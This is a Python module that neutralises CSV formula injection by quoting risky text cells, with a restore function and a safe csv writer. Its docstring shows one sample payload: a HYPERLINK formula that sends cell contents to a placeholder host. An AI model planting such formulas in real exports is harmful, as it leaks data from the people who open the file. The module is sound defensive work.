"""CSV cells that a spreadsheet will not run: formula (CSV) injection.

Excel, LibreOffice and Google Sheets take a cell beginning with = + - @ (or a tab or
carriage return before one) as a formula, so a customer name such as
`=HYPERLINK("http://x/?"&A1,"klik")` in an export would run on the operator's machine.
`neutralise` puts a single quote in front of such a text cell (OWASP's advice; the quote
is not displayed). Numbers are left alone, negative ones included: `-5` is a number to
the spreadsheet, not a formula. A text that already begins with quotes before such a
character gets one more, so `restore` (used on import) gives back exactly what was
written: export then import loses nothing.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, Protocol

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")


def _risky(text: str) -> bool:
    bare = text.lstrip("'")
    return bare.startswith(TRIGGERS) and (bare != text or not _NUMBER.fullmatch(text))


def neutralise(value: Any) -> Any:
    """`value` as it may go into a CSV cell: a text cell a spreadsheet would evaluate gets
    a leading quote; anything else is returned as it is."""
    if isinstance(value, str) and _risky(value):
        return "'" + value
    return value


def restore(cell: str) -> str:
    """The value `neutralise` was given, from what it wrote."""
    if cell.startswith("'") and _risky(cell[1:]):
        return cell[1:]
    return cell


class _Writes(Protocol):
    def write(self, s: str, /) -> object: ...


class SafeWriter:
    """`csv.writer` whose every cell goes through `neutralise`."""

    def __init__(self, out: _Writes, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([neutralise(cell) for cell in row])
